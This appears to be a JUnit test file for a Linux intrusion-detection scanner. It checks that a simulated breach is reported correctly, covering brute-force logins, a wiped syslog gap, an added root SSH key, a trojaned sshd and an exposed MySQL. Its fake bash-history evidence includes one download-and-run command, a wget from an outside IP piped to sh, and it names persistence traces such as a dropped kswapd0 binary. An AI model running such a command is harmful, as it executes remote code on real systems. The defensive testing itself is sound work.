package dev.ferret.detect.access;

import dev.ferret.data.rules.Golden;
import dev.ferret.collect.linux.access.AccessFixture;
import dev.ferret.collect.linux.access.AccessScenarios;
import dev.ferret.model.Finding;
import dev.ferret.model.Severity;
import dev.ferret.model.Snapshot;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;

import static dev.ferret.collect.linux.access.AccessFixture.dump;
import static dev.ferret.collect.linux.access.AccessFixture.evidence;
import static dev.ferret.collect.linux.access.AccessFixture.one;
import static dev.ferret.collect.linux.access.AccessFixture.rule;
import static dev.ferret.collect.linux.access.AccessScenarios.ATTACKER;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * THREATS.md case 3 as a fixture host (real wtmp/btmp/lastlog records, rotated and gzipped syslog-format logs, dpkg's
 * database): collected offline and judged end to end. Every acceptance point of the access issue: the brute force
 * and the success from the same address, the nine-hour gap, the key added yesterday, the changed dpkg binary,
 * MySQL configured on 0.0.0.0.
 */
class CaseThreeIntrusionTest {
    /** The scanner's clock: weeks after the image was taken (the image's "now" is its newest log entry). */
    static final Clock LATER = Clock.fixed(Instant.parse("2024-04-02T10:00:00Z"), ZoneOffset.UTC);

    @TempDir
    static Path root;

    static Snapshot snapshot;
    static List<Finding> findings;

    @BeforeAll
    static void scan() {
        snapshot = AccessScenarios.intrusion(new AccessFixture(root)).collect();
        findings = AccessFixture.detect(snapshot, LATER);
    }

    static void atLeast(Severity min, Finding f) {
        assertTrue(f.severity().compareTo(min) >= 0, f.ruleId() + " is " + f.severity() + " (" + f.score() + "): "
                + f.reasons());
    }

    @Test
    @Golden("linux.access.brute-force-success")
    void bruteForceThenSuccessFromTheSameAddress() {
        Finding f = one(findings, "linux.access.brute-force-success");
        atLeast(Severity.HIGH, f);
        assertEquals(ATTACKER, f.source().ip());
        assertTrue(evidence(f, AccessScenarios.BRUTE_FAILURES + " failed logins from " + ATTACKER), dump(List.of(f)));
        assertTrue(evidence(f, "root logged in from " + ATTACKER + " with password at 2024-03-10 10:05:31Z"), dump(List.of(f)));
        assertTrue(f.techniques().containsAll(List.of("T1110", "T1078", "T1021.004")), f.techniques().toString());
        assertTrue(f.response().stream().anyMatch(r -> r.contains("iptables -I INPUT -s " + ATTACKER)));
        assertTrue(rule(findings, "linux.access.brute-force").isEmpty(), "the success replaces the plain brute force");
        assertTrue(rule(findings, "linux.access.login-root-ssh").isEmpty() && rule(findings, "linux.access.login-new-source")
                .isEmpty(), "the breach is told once:\n" + dump(findings));
    }

    @Test
    @Golden("linux.access.log-gap")
    void nineHourGapInTheBusySystemLog() {
        Finding f = one(findings, "linux.access.log-gap");
        atLeast(Severity.HIGH, f);
        // the entries of 08:01 to 16:51 were wiped: the last one before is 07:51:03, the first after 17:01:00
        assertTrue(evidence(f, "has no entry for 9 h 9 min: from 2024-03-10 07:51:03Z to 2024-03-10 17:01:00Z"),
                dump(List.of(f)));
        assertTrue(evidence(f, "the auth log (/var/log/auth.log, /var/log/auth.log.1, /var/log/auth.log.2.gz) has entries "
                + "during it"), dump(List.of(f)));
        assertTrue(evidence(f, "no boot or shutdown is recorded between the last boot (2024-03-05 06:00:10Z"), dump(List.of(f)));
        assertEquals("/var/log/syslog", f.file().path());
        assertTrue(f.techniques().contains("T1070.002"));
    }

    @Test
    @Golden("linux.access.ssh-key-added")
    void authorizedKeyAddedYesterdayAfterTheBreach() {
        Finding f = one(findings, "linux.access.ssh-key-added");
        atLeast(Severity.HIGH, f);
        assertEquals("/root/.ssh/authorized_keys", f.file().path());
        assertTrue(evidence(f, "changed yesterday (2024-03-10 10:07:12Z)"), dump(List.of(f)));
        assertTrue(evidence(f, "newest key, line 2: ssh-rsa SHA256:"), dump(List.of(f)));
        assertTrue(evidence(f, "root@kali"));
        assertTrue(evidence(f, "1 min before the change, root logged in from " + ATTACKER), dump(List.of(f)));
        assertEquals("/root/.ssh/authorized_keys", f.persistence().location(), "chains with the persistence key finding");
    }

    @Test
    @Golden("linux.access.package-file-changed")
    void dpkgManagedBinaryWhoseContentChanged() {
        Finding f = one(findings, "linux.access.package-file-changed");
        atLeast(Severity.HIGH, f);
        assertEquals("/usr/sbin/sshd", f.file().path());
        assertEquals(AccessFixture.md5(AccessScenarios.SSHD_TROJAN), f.file().md5());
        assertTrue(evidence(f, "package openssh-server installed it with MD5 " + AccessFixture.md5(AccessScenarios.SSHD_ORIGINAL)));
        assertTrue(f.response().stream().anyMatch(r -> r.contains("apt-get install --reinstall openssh-server")));
        assertTrue(rule(findings, "linux.access.package-unknown-binary").isEmpty(), dump(findings));
    }

    @Test
    @Golden("linux.access.exposed-service")
    void mysqlListeningOnEveryInterface() {
        Finding f = one(findings, "linux.access.exposed-service");
        atLeast(Severity.MEDIUM, f);
        assertEquals(3306, f.destination().port());
        assertEquals("0.0.0.0", f.destination().ip());
        assertTrue(evidence(f, "/etc/mysql/mysql.conf.d/mysqld.cnf:3: bind-address 0.0.0.0"), dump(List.of(f)));
    }

    @Test
    @Golden({"linux.access.history-command", "linux.access.outdated-service", "linux.access.recent-files", "linux.access.root-service"})
    void theRestOfTheStory() {
        Finding history = one(findings, "linux.access.history-command");
        atLeast(Severity.HIGH, history);
        assertTrue(evidence(history, "/root/.bash_history:4 (2024-03-10 10:06:11Z): 'wget -q -O- http://218.248.40.228:8443/i.sh | sh'"),
                dump(List.of(history)));
        assertTrue(evidence(history, ">> /root/.ssh/authorized_keys"));
        Finding nginx = one(findings, "linux.access.root-service");
        atLeast(Severity.MEDIUM, nginx);
        assertTrue(evidence(nginx, "/etc/nginx/nginx.conf:1: user root"));
        Finding php = one(findings, "linux.access.outdated-service");
        assertTrue(evidence(php, "php 7.4.33-1+deb11u4"), dump(List.of(php)));
        Finding cluster = one(findings, "linux.access.recent-files");
        atLeast(Severity.MEDIUM, cluster);
        assertTrue(evidence(cluster, "/root/.bashtemp/kswapd0"), dump(List.of(cluster)));
        assertTrue(evidence(cluster, "/var/spool/cron/crontabs/root"), dump(List.of(cluster)));
        assertEquals("/root/.bashtemp/kswapd0", cluster.file().path(), "the dropped executable leads the cluster");
        assertTrue(rule(findings, "linux.access.login-records-tampered").isEmpty(), dump(findings));
        assertTrue(rule(findings, "linux.access.login-records-lastlog-mismatch").isEmpty(), dump(findings));
    }

    @Test
    void coverageSaysWhatWasRead() {
        var c = snapshot.coverage();
        assertTrue(c.counter("access", "log lines read") > 1000);
        assertEquals(0, c.counter("access", "malformed log lines"));
        assertEquals(AccessScenarios.BRUTE_FAILURES, c.counter("access", "btmp records read"));
        assertTrue(c.notes().stream().anyMatch(n -> n.contains("no /var/log/journal")), c.notes().toString());
        assertNotNull(dev.ferret.model.access.AccessSnapshot.of(snapshot).latestEvent());
    }
}
